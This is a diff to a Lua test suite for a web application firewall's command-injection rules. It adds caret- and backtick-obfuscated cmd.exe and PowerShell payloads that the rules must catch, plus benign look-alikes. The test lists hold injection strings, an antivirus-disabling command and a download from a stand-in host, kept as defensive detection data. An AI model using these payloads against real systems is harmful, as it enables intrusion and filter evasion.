@@ -40,7 +40,7 @@ describe_rules("edge.waf.rules command injection shapes", function()
     it("132140: cmd.exe grammar: FOR, IF EXIST, START /B, CALL, SC", function()
         caught_by(132140, { "& for /f \"tokens=*\" %a in ('whoami') do echo %a", "for %i in (1 2) do dir",
             "for /l %i in (1,1,9) do ping 10.0.0.%i", "& if exist c:\\windows\\win.ini type x", "start /b calc.exe",
-            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%", "& calc.exe",
+            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%", "& calc.exe", "& f^o^r /f %a in ('whoami') do echo %a", "&& t^y^p^e c:\\boot.ini",
             "| \"c:\\temp\\x.bat\"", "&& payload.ps1" })
         clean({ "Tom & example.com", "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
     end)
@@ -72,10 +72,10 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "$ExecutionContext.InvokeCommand.InvokeScript('id')", "&('I'+'EX') 'whoami'",
             "Set-MpPreference -DisableRealtimeMonitoring $true",
             "powershell -nop -w hidden -ep bypass", "[char]105+[char]101", "$env:comspec /c whoami", "&(gcm i*x) 'id'",
-            "Get-ADUser -Filter *", "; gci c:\\", "&& iwr http://h/x" })
+            "Get-ADUser -Filter *", "In`vo`ke-Ex`pres`sion $x", "i`e`x(x)", "; gci c:\\", "&& iwr http://h/x" })
         clean({ "set-up guide", "Get-Together 2024", "out-of-band", "read-only mode", "iex (Investors Exchange)",
             "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
-            "open PowerShell as admin and run the installer", "the follow-up -- next week", "PS: set-up -- done", "Ex-Windows admin, now writing PowerShell for fun" })
+            "open PowerShell as admin and run the installer", "the follow-up -- next week", "the `user`s and `name`s", "use `ls`, then `cd`", "PS: set-up -- done", "Ex-Windows admin, now writing PowerShell for fun" })
     end)
 
     it("132200: mail protocol commands after a line break (SMTP, IMAP, POP3)", function()
